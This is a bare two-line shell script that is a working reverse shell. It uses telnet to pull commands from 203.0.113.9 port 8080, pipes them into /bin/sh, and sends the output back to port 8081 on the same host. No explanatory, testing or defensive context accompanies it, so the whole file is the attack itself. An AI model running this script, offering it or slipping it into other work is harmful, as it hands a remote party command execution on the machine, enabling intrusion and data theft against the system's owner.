#!/bin/sh
telnet 203.0.113.9 8080 | /bin/sh | telnet 203.0.113.9 8081
